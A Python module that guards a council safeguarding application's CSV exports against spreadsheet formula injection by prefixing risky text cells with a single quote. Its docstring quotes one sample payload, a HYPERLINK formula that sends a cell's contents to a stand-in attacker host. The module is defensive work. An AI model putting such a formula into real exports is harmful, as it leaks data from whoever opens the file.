"""The one way Safeguard writes a file that a spreadsheet may open.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula. Much of what we export was typed by
someone outside the council (a concern reported online, a break-glass reason, a partner's
referral), so an export must never hand them a live formula such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` on a manager's desktop.

``safe_cell`` follows the OWASP advice on CSV injection: such a text cell is prefixed with a
single quote, which spreadsheets show as text and do not evaluate. Real numbers (``int``,
``float``, ``Decimal``) are left alone, so ``-3`` stays a number; the *string* ``"-3"``
is treated like any other text, because text is where an attacker's input arrives.

Every writer of CSV goes through ``csv_lines`` (or ``csv_text``). Any future spreadsheet
writer (openpyxl for ``.xlsx``, or anything else) must pass every cell value through the
same ``safe_cell`` before writing it: do not write a second rule. JSON and other
machine-readable exports are not spreadsheets and must not be escaped.
"""

from __future__ import annotations

import csv
import decimal
from collections.abc import Iterable, Iterator

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

Cell = object


def safe_cell(value: Cell) -> Cell:
    """``value`` as a spreadsheet cell that can never be evaluated as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


class _Echo:
    """A file-like object that hands back what it is given, for streaming responses."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Cell]]) -> Iterator[str]:
    """One CSV line per row, every cell made safe; for ``StreamingHttpResponse``."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(cell) for cell in row])


def csv_text(rows: Iterable[Iterable[Cell]]) -> str:
    """A whole CSV document, every cell made safe."""
    return "".join(csv_lines(rows))
